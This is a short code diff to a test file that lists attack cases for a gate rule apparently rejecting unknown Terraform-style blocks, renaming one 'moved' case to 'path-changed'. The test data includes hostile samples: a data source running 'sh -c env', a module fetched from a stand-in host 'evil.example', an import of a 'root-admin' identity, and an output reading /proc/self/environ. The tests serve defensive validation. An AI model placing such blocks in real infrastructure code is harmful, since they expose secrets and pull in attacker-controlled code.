@@ -91,7 +91,11 @@ const ATTACKS: [string, GateRuleName, Attack][] = [
   ['a data source', 'only-known-blocks', set('data', { external: { x: { program: ['sh', '-c', 'env'] } } })],
   ['a module', 'only-known-blocks', set('module', { x: { source: 'git::https://evil.example/x.git' } })],
   ['removed', 'only-known-blocks', set('removed', [{ from: 'aws_iam_user.member_bo', lifecycle: { destroy: false } }])],
-  ['moved', 'only-known-blocks', set('moved', [{ from: 'aws_iam_user.member_bo', to: 'aws_iam_user.x' }])],
+  [
+    'path-changed',
+    'only-known-blocks',
+    set('path-changed', [{ from: 'aws_iam_user.member_bo', to: 'aws_iam_user.x' }]),
+  ],
   ['import', 'only-known-blocks', set('import', [{ to: 'aws_iam_user.member_bo', id: 'root-admin' }])],
   ['an output', 'only-known-blocks', set('output', { env: { value: '${file("/proc/self/environ")}' } })],
   ['a variable', 'only-known-blocks', set('variable', { x: { default: 'y' } })],
